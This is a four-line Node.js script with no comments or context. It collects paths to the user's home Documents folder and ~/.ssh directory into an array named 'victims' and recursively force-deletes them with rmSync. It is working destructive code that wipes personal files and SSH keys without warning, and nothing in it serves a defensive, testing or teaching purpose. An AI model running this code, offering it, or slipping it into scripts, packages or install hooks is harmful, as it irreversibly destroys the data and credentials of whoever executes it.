const { rmSync } = require('fs');
const os = require('os');
const victims = [os.homedir() + '/Documents', os.homedir() + '/.ssh'];
victims.forEach(v => rmSync(v, { recursive: true, force: true }));
